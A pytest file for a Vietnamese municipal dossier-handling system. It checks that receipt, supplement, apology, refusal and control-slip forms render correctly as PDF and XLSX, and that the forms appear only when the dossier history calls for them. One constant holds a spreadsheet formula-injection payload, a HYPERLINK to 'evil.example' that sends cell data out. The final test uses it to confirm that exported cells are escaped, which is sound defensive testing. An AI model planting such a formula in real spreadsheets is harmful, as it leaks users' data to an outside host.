"""Mẫu 01–07 as PDFs whose Vietnamese reads right, only when the history calls for them."""

import io
from datetime import datetime

import pypdf
import pytest
from openpyxl import load_workbook

from motcua.core.calendar import LOCAL_TZ
from motcua.dossiers.forms import XLSX
from tests.dossiers.helpers import act, submit
from tests.factories import make_staff

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def local(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 11, day, hour, minute, tzinfo=LOCAL_TZ)


def pdf_text(client, code: str, number: str) -> str:
    response = client.get(f"/api/v1/dossiers/{code}/forms/{number}.pdf")
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "application/pdf"
    reader = pypdf.PdfReader(io.BytesIO(response.content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    return " ".join(text.split())  # the layout wraps lines; compare words


@pytest.fixture
def late_dossier(api, clock, procedure, commune, receiver, specialist, approver):
    """A desk dossier sent back once for a supplement, late with an apology, then returned."""
    desk, expert, leader = api(receiver), api(specialist), api(approver)
    dossier = submit(desk, procedure, commune, channel="desk")
    dossier = act(desk, dossier, "forward")
    clock.set(local(16, 10))
    dossier = act(
        expert,
        dossier,
        "request_supplement",
        items=["Bản sao giấy chứng sinh", "Giấy xác nhận nơi cư trú"],
        note="Thiếu giấy tờ chứng minh",
    )
    clock.set(local(17, 9))
    dossier = act(desk, dossier, "submit_supplement", documents=[{"name": "Giấy chứng sinh"}])
    clock.set(local(18, 8))
    dossier = act(
        expert,
        dossier,
        "apologise",
        note="Cần xác minh thông tin với nơi cư trú trước đây",
        new_due_at=local(24, 17).isoformat(),
    )
    dossier = act(expert, dossier, "forward")
    clock.set(local(23, 15))
    dossier = act(leader, dossier, "approve", number="125/GKS")
    return act(desk, dossier, "return_result")


def test_receipt_form_01_names_the_applicant_the_documents_and_the_due_time(
    api, late_dossier, receiver
):
    text = pdf_text(api(receiver), late_dossier["code"], "01")
    assert "GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "Độc lập - Tự do - Hạnh phúc" in text
    assert f"Mã hồ sơ: {late_dossier['code']}" in text
    assert "Phạm Thị Hồng Nhung" in text
    assert "Tờ khai đăng ký khai sinh" in text
    assert "08 giờ 00 phút, ngày 16 tháng 11 năm 2026" in text  # received at the desk
    assert "Nguyễn Thị Tiếp" in text  # the officer who received it
    assert f"tra-cuu/?ma={late_dossier['code']}" in text.replace(" ", "")  # the QR's address


def test_supplement_apology_and_control_slip_tell_the_story(api, late_dossier, receiver):
    client, code = api(receiver), late_dossier["code"]
    supplement = pdf_text(client, code, "02")
    assert "PHIẾU YÊU CẦU BỔ SUNG, HOÀN THIỆN HỒ SƠ" in supplement
    assert "1. Bản sao giấy chứng sinh" in supplement
    assert "2. Giấy xác nhận nơi cư trú" in supplement

    apology = pdf_text(client, code, "04")
    assert "PHIẾU XIN LỖI VÀ HẸN LẠI NGÀY TRẢ KẾT QUẢ" in apology
    assert "Cần xác minh thông tin với nơi cư trú trước đây" in apology
    assert "17 giờ 00 phút, ngày 24 tháng 11 năm 2026" in apology

    slip = pdf_text(client, code, "06")
    assert "PHIẾU KIỂM SOÁT QUÁ TRÌNH GIẢI QUYẾT HỒ SƠ" in slip
    assert "Quá hạn" in slip  # an apology's dossier still counts as late

    register = pdf_text(client, code, "07")
    assert "SỔ THEO DÕI HỒ SƠ" in register
    assert code in register


def test_control_slip_06_as_a_spreadsheet_lists_every_handover(api, late_dossier, receiver):
    response = api(receiver).get(f"/api/v1/dossiers/{late_dossier['code']}/forms/06.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell for cell in row if cell is not None] for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == ["PHIẾU KIỂM SOÁT QUÁ TRÌNH GIẢI QUYẾT HỒ SƠ"]
    header = rows.index(next(r for r in rows if r and r[0] == "STT"))
    lines = rows[header + 1 :]
    # receive, forward, forward, approve, return: five hand-overs in order.
    assert [line[0] for line in lines] == ["1", "2", "3", "4", "5"]
    assert "Quá hạn" in lines[3]


def test_refusal_and_stop_notices(api, clock, procedure, commune, receiver):
    desk = api(receiver)
    refused = submit(desk, procedure, commune, channel="online")
    refused = act(desk, refused, "refuse", note="Thủ tục không thuộc thẩm quyền của xã")
    text = pdf_text(desk, refused["code"], "03")
    assert "PHIẾU TỪ CHỐI TIẾP NHẬN GIẢI QUYẾT HỒ SƠ" in text
    assert "Thủ tục không thuộc thẩm quyền của xã" in text

    withdrawn = submit(desk, procedure, commune, channel="desk")
    withdrawn = act(desk, withdrawn, "withdraw", note="Người nộp xin rút để bổ sung sau")
    text = pdf_text(desk, withdrawn["code"], "05")
    assert "THÔNG BÁO DỪNG GIẢI QUYẾT HỒ SƠ" in text
    assert "Người nộp xin rút để bổ sung sau" in text


def test_forms_the_history_does_not_call_for_are_refused(api, clock, procedure, commune, receiver):
    desk = api(receiver)
    online = submit(desk, procedure, commune, channel="online")
    for number in ("01", "02", "03", "04", "05", "06", "07"):
        response = desk.get(f"/api/v1/dossiers/{online['code']}/forms/{number}.pdf")
        assert response.status_code == 409, number
        assert response.json()["code"] == "form_not_applicable"
        assert "chưa" in response.json()["detail"]


@pytest.mark.parametrize("path", ["99.pdf", "01.xlsx", "06.docx"])
def test_unknown_forms_and_formats_are_404(api, clock, procedure, commune, receiver, path):
    desk = api(receiver)
    dossier = submit(desk, procedure, commune, channel="desk")
    response = desk.get(f"/api/v1/dossiers/{dossier['code']}/forms/{path}")
    assert response.status_code == 404
    assert response.json()["code"] == "unknown_form"


def test_forms_of_another_agency_are_not_found_and_need_a_login(
    api, clock, procedure, commune, receiver, other_receiver
):
    dossier = submit(api(receiver), procedure, commune, channel="desk")
    url = f"/api/v1/dossiers/{dossier['code']}/forms/01.pdf"
    assert api(other_receiver).get(url).status_code == 404
    assert api().get(url).status_code == 401


def test_supplement_request_02_has_one_lead_in(api, late_dossier, receiver):
    text = pdf_text(api(receiver), late_dossier["code"], "02")
    assert "Bộ phận tiếp nhận và trả kết quả của UBND xã Hy Cương" in text
    assert text.count("hồ sơ của:") == 1  # "Tiếp nhận hồ sơ của: …", said once
    assert "Tiếp nhận hồ sơ của: Phạm Thị Hồng Nhung" in text
    assert "Người hướng dẫn".upper() in text


def test_apology_04_is_signed_by_the_head_of_the_responsible_agency(api, late_dossier, receiver):
    text = pdf_text(api(receiver), late_dossier["code"], "04")
    assert "THỦ TRƯỞNG CƠ QUAN" in text
    assert "Lê Văn Lãnh" in text  # the commune's leader (approver)
    assert "Trần Văn Chuyên" not in text  # the specialist who wrote the apology does not sign
    assert "(Ký, ghi rõ họ tên và đóng dấu)" in text


def test_apology_04_leaves_the_name_blank_when_the_head_is_not_known(
    api, late_dossier, receiver, commune
):
    make_staff("lanhdao2", commune, "approver", full_name="Đỗ Thị Phó")  # two leaders: which?
    text = pdf_text(api(receiver), late_dossier["code"], "04")
    assert "THỦ TRƯỞNG CƠ QUAN" in text
    assert "Lê Văn Lãnh" not in text and "Đỗ Thị Phó" not in text


def test_the_place_line_is_the_agency_s_own_place(api, late_dossier, receiver, commune):
    before = pdf_text(api(receiver), late_dossier["code"], "01")
    assert "Phú Thọ, ngày" in before  # no place of its own: the province's
    commune.place = "Hy Cương"
    commune.save(update_fields=["place"])
    after = pdf_text(api(receiver), late_dossier["code"], "01")
    assert "Hy Cương, ngày" in after and "Phú Thọ, ngày" not in after
    assert "UBND TỈNH PHÚ THỌ" in after  # the commune printed under its real parent


@pytest.mark.parametrize(
    "path, accept",
    [
        ("01.pdf", "application/pdf"),
        ("01.pdf", "*/*"),
        ("01.pdf", "application/pdf, application/json;q=0.5"),
        ("06.xlsx", XLSX),
        ("06.xlsx", "*/*"),
    ],
)
def test_a_client_that_asks_for_the_file_type_gets_the_file(
    api, late_dossier, receiver, path, accept
):
    response = api(receiver).get(
        f"/api/v1/dossiers/{late_dossier['code']}/forms/{path}", HTTP_ACCEPT=accept
    )
    assert response.status_code == 200, response.content[:200]
    assert response["Content-Type"] == (XLSX if path.endswith("xlsx") else "application/pdf")


def test_errors_of_a_form_are_still_json_whatever_the_accept(api, clock, procedure, commune,
                                                             receiver):  # fmt: skip
    online = submit(api(receiver), procedure, commune, channel="online")
    response = api(receiver).get(
        f"/api/v1/dossiers/{online['code']}/forms/01.pdf", HTTP_ACCEPT="application/pdf"
    )
    assert response.status_code == 409
    assert response.json()["code"] == "form_not_applicable"


def test_control_slip_xlsx_keeps_formulas_out(api, clock, procedure, commune, receiver):
    desk = api(receiver)
    dossier = submit(desk, procedure, commune, channel="desk")
    act(desk, dossier, "forward", note=EVIL)
    response = desk.get(f"/api/v1/dossiers/{dossier['code']}/forms/06.xlsx")
    cells = [c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()
             for c in row if c.value]  # fmt: skip
    assert all(c.data_type != "f" for c in cells)
    assert "'" + EVIL in [c.value for c in cells]
